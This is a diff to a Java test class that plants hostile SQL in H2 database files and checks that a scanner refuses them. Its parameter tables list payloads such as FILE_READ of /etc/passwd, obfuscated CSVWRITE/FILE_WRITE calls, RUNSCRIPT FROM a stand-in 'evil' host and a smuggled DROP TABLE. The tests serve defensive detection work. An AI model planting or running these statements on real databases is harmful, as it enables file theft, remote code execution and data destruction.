@@ -52,7 +52,7 @@ class LiveStrangersH2Test {
     assertThat(project.tree()).isEqualTo(before);
   }
 
-  /** It runs today where nobody looks first. */
+  /** H2 runs it if the file is not looked into first. */
   private void runs(PlantedH2 database) throws Exception {
     try {
       database.openCarelessly();
@@ -86,7 +86,7 @@ class LiveStrangersH2Test {
     refuses("a trigger that opening it would run");
   }
 
-  /** What somebody has put among H2's statements; the number says when H2 runs it. */
+  /** What an attacker has put among H2's statements; the number says when H2 runs it. */
   @ParameterizedTest
   @CsvSource(
       delimiter = '|',
@@ -97,18 +97,18 @@ class LiveStrangersH2Test {
           11 | CREATE CONSTANT "PUBLIC"."C" VALUE/**/FILE_WRITE/**/(X'00', 'CANARY') | a call of FILE_WRITE
           11 | CREATE CONSTANT "PUBLIC"."C" VALUE CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
           11 | CREATE CONSTANT "PUBLIC"."C" VALUE U&"\\0043SVWRITE"('CANARY', 'SELECT 1') | a call of CSVWRITE
-          11 | CREATE CONSTANT "PUBLIC"."C" VALUE U&"!0043SVWRITE" UESCAPE '!' ('CANARY', 'SELECT 1') | a statement that is none of H2's own
+          11 | CREATE CONSTANT "PUBLIC"."C" VALUE U&"!0043SVWRITE" UESCAPE '!' ('CANARY', 'SELECT 1') | a statement that H2 does not write
           3 | CREATE SEQUENCE "PUBLIC"."S" START WITH CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
           9 | CALL CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
           0 | CREATE CACHED TABLE "PUBLIC"."T"("A" INTEGER) AS SELECT CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
           """)
-  void runsNoStatementThatSomebodyHasPutThere(int type, String sql, String what) throws Exception {
+  void runsNoPlantedStatement(int type, String sql, String what) throws Exception {
     PlantedH2 database = database().plant(type, sql.replace("CANARY", canary.toString()));
     runs(database);
     refuses(what);
   }
 
-  /** What is not proved to write a file here: it wants a class, a server or a query. */
+  /** What is not proved to write a file here: it needs a class, a server or a query. */
   @ParameterizedTest
   @CsvSource(
       delimiter = '|',
@@ -122,18 +122,18 @@ class LiveStrangersH2Test {
           6 | SET DATABASE_EVENT_LISTENER 'a.B' | an event listener
           6 | SET JAVA_OBJECT_SERIALIZER 'a.B' | a serializer
           6 | SET AUTHENTICATOR TRUE | an authenticator
-          6 | SET TRACE_LEVEL_FILE 3 | a statement that is none of H2's own
+          6 | SET TRACE_LEVEL_FILE 3 | a statement that H2 does not write
           0 | CREATE FORCE VIEW "PUBLIC"."V"("A") AS SELECT * FROM CSVREAD('/etc/passwd') | a call of CSVREAD
           0 | CREATE FORCE VIEW "PUBLIC"."V"("A") AS SELECT FILE_READ('/etc/passwd') | a call of FILE_READ
           0 | CREATE CACHED TABLE "PUBLIC"."T"("A" INTEGER DEFAULT FILE_READ('/etc/passwd')) | a call of FILE_READ
           5 | ALTER TABLE "PUBLIC"."USERS" ADD CONSTRAINT "PUBLIC"."C" CHECK(LINK_SCHEMA('A','','jdbc:h2:tcp://evil/x','','','P') IS NULL) NOCHECK | a call of LINK_SCHEMA
-          15 | RUNSCRIPT FROM 'http://evil/x.sql' | a statement that is none of H2's own
-          15 | SCRIPT TO '/tmp/x.sql' | a statement that is none of H2's own
-          15 | BACKUP TO '/tmp/x.zip' | a statement that is none of H2's own
-          15 | ALTER TABLE "PUBLIC"."USERS" RENAME TO "X" | a statement that is none of H2's own
-          15 | COMMENT ON TABLE "PUBLIC"."USERS" IS 'a'; DROP TABLE "PUBLIC"."USERS" | a statement that is none of H2's own
-          15 | SET MODE (SELECT 1) | a statement that is none of H2's own
-          15 | '' | a statement that is none of H2's own
+          15 | RUNSCRIPT FROM 'http://evil/x.sql' | a statement that H2 does not write
+          15 | SCRIPT TO '/tmp/x.sql' | a statement that H2 does not write
+          15 | BACKUP TO '/tmp/x.zip' | a statement that H2 does not write
+          15 | ALTER TABLE "PUBLIC"."USERS" RENAME TO "X" | a statement that H2 does not write
+          15 | COMMENT ON TABLE "PUBLIC"."USERS" IS 'a'; DROP TABLE "PUBLIC"."USERS" | a statement that H2 does not write
+          15 | SET MODE (SELECT 1) | a statement that H2 does not write
+          15 | '' | a statement that H2 does not write
           """)
   void refusesWhateverElseCouldRun(int type, String sql, String what) throws Exception {
     database().plant(type, sql);
